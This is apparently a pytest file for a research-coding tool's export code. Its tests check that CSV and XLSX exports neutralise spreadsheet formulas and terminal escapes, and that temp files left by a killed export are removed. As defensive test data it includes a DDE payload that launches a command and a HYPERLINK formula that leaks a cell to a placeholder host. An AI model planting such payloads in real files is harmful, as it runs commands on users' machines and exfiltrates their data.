"""CSV exports are safe to open in a spreadsheet: no cell runs as a formula, no control sequence
reaches a terminal; ``raw`` keeps the stored values for scripts; killed exports are tidied up."""

import csv
import os
import re
import signal
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from tests.core.frames import as_tables
from tests.core.hostile import run_python
from tests.core.test_export_data import build_coded

from r2pcoder.cli import main
from r2pcoder.coding import CodingRequest
from r2pcoder.db import Project
from r2pcoder.export import TableOptions, export_project, parse_layer
from r2pcoder.export.writers import defuse, write_csv
from r2pcoder.metadata import DocumentMeta
from r2pcoder.tempfiles import PartFile

CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("stored", "written"),
    [
        (CALC, "'" + CALC),
        (LINK, "'" + LINK),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3", "-3"),  # a plain number cannot be a formula
        ("+1.5", "+1.5"),
        ("-0.5e3", "-0.5e3"),
        ("- a bulleted quote", "'- a bulleted quote"),
        ("a = b", "a = b"),
        ("nul\x00here", "nul\ufffdhere"),
        ("\x1b[31mred\x1b[0m", "\ufffd[31mred\ufffd[0m"),
        ("\x00=1", "\ufffd=1"),
        ("csi\x9b2J", "csi\ufffd2J"),
        ("'already text", "'already text"),
        ("", ""),
    ],
)
def test_a_text_cell_is_defused_as_owasp_says(stored: str, written: str) -> None:
    assert defuse(stored) == written


def _read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def test_csv_defuses_cells_anywhere_in_a_column_and_the_header(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "=title": ["plain", CALC, "x,y", LINK, None, "-7"],
            "n": [1, 2, 3, 4, 5, 6],
            "f": [-0.5, 1.0, None, 2.0, -1e-9, 0.0],
            "ctl": ["a\x00b", "c\x1bd", "é\x9bf", "g,\x00h", "Café\x00 😀", "\x1b=1"],
        }
    )
    out = tmp_path / "t.csv"
    write_csv(as_tables({"t": frame}), out)
    rows = _read(out)
    assert rows[0] == ["'=title", "n", "f", "ctl"]
    assert [r[0] for r in rows[1:]] == ["plain", "'" + CALC, "x,y", "'" + LINK, "", "-7"]
    assert [r[2] for r in rows[1:]] == ["-0.5", "1.0", "", "2.0", "-1e-09", "0.0"]
    assert [r[3] for r in rows[1:]] == [
        "a\ufffdb",
        "c\ufffdd",
        "é\ufffdf",
        "g,\ufffdh",
        "Café\ufffd 😀",
        "\ufffd=1",
    ]
    write_csv(as_tables({"t": frame}), out, raw=True)
    rows = _read(out)
    assert [r[0] for r in rows[1:]] == ["plain", CALC, "x,y", LINK, "", "-7"]
    assert [r[3] for r in rows[1:]] == list(frame["ctl"])


@pytest.fixture
def hostile(project: Project, ids) -> Project:
    """Names, metadata and a memo that a spreadsheet would run, and terminal escapes."""
    ana, _ = ids.coders
    project.coders.rename(ana, '=HYPERLINK("http://x.invalid","Ana")')
    doc = ids.documents[0]
    meta = next(d.meta for d in project.documents.list() if d.id == doc)
    project.documents.set_meta(
        doc, DocumentMeta(**{**vars(meta), "speaker": "@SUM(1+1)", "event": "+cmd\x1b[2J"})
    )
    theme = project.codebook.theme_by_key("prevention").id
    project.codings.apply(CodingRequest(doc, ana, theme, 0, 10, memo=CALC + "\x00"))
    return project


def test_an_export_of_hostile_values_runs_nothing_and_raw_keeps_them(
    hostile: Project, tmp_path: Path
) -> None:
    layer = parse_layer(hostile.coders.list()[0].uuid)
    options = TableOptions(what=("segments",))
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    export_project(hostile, layer, "csv", safe, options)
    export_project(hostile, layer, "csv", raw, options, raw_csv=True)
    safe_row, raw_row = (dict(zip(*_read(p)[:2], strict=True)) for p in (safe, raw))
    assert safe_row["memo"] == "'" + CALC + "\ufffd"
    assert raw_row["memo"] == CALC + "\x00"
    assert safe_row["speaker"] == "'@SUM(1+1)"
    assert safe_row["event"] == "'+cmd\ufffd[2J"
    assert raw_row["event"] == "+cmd\x1b[2J"
    text = safe.read_text(encoding="utf-8")
    assert not re.search(r"(^|,)[=+\-@\t\r]", text.replace("\n", ",").replace('"', ""))
    assert "\x00" not in text
    assert "\x1b" not in text


def test_the_command_line_switch_writes_raw_values(
    hostile: Project, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path, ana = hostile.path, hostile.coders.list()[0].uuid
    hostile.close()
    for flag, memo in (([], "'" + CALC + "\ufffd"), (["--raw-csv"], CALC + "\x00")):
        out = tmp_path / f"seg{len(flag)}.csv"
        argv = ["export", str(path), "--what", "segments", "--layer", ana, "--out", str(out)]
        assert main([*argv, *flag]) == 0, capsys.readouterr().err
        row = dict(zip(*_read(out)[:2], strict=True))
        assert row["memo"] == memo


def test_xlsx_stores_hostile_text_as_text_never_as_a_formula(
    hostile: Project, tmp_path: Path
) -> None:
    out = tmp_path / "x.xlsx"
    layer = parse_layer(hostile.coders.list()[0].uuid)
    export_project(hostile, layer, "xlsx", out, TableOptions(what=("segments",)))
    with zipfile.ZipFile(out) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(book.read(n).decode("utf-8") for n in sheets)
    assert "<f>" not in xml
    assert "<f " not in xml
    sheet = openpyxl.load_workbook(out)["segments"]
    header = [c.value for c in sheet[1]]
    memo = sheet.cell(2, header.index("memo") + 1)
    assert memo.data_type == "s"
    assert memo.value == CALC + "\ufffd"  # stored as text, exactly; NUL is not valid XML


KILLED_EXPORT = """
import sys, time
from pathlib import Path
from r2pcoder.db import Project
from r2pcoder.export import export_project, parse_layer
def progress(fraction):
    if fraction > 0.8:
        print("writing", flush=True)
        time.sleep(60)
with Project(Path(sys.argv[1])) as project:
    export_project(project, parse_layer("all"), "csv", Path(sys.argv[2]), progress=progress)
"""


def _parts(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".part"))


@pytest.mark.slow
def test_the_next_export_removes_what_a_killed_one_left(
    project_path: Path, ids, tmp_path: Path
) -> None:
    with Project(project_path) as project:
        build_coded(project, ids.documents, ids.coders)
    out = tmp_path / "csv"
    child = run_python(KILLED_EXPORT, project_path, out)
    assert child.stdout is not None
    assert child.stdout.readline().strip() == "writing"
    os.kill(child.pid, signal.SIGKILL)
    child.wait()
    left = _parts(out)
    assert left
    assert all(re.fullmatch(r"\.[a-z_]+\.csv\.[0-9a-f]{8}\.part", name) for name in left)
    with Project(project_path) as project:
        export_project(project, parse_layer("all"), "csv", out)
    assert _parts(out) == []


def test_a_temporary_file_still_being_written_is_left_alone(tmp_path: Path) -> None:
    busy = PartFile(tmp_path, "t.csv")  # held by a writer that is still at work
    orphan = tmp_path / ".t.csv.0123abcd.part"
    orphan.write_bytes(b"half a table")
    other = tmp_path / ".t.csv.notours.part"
    other.write_bytes(b"not one of ours")
    try:
        write_csv(as_tables({"t": pd.DataFrame({"a": [1]})}), tmp_path / "t.csv")
        assert busy.path.exists()
        assert not orphan.exists()
        assert other.exists()
    finally:
        busy.discard()
    assert _read(tmp_path / "t.csv") == [["a"], ["1"]]
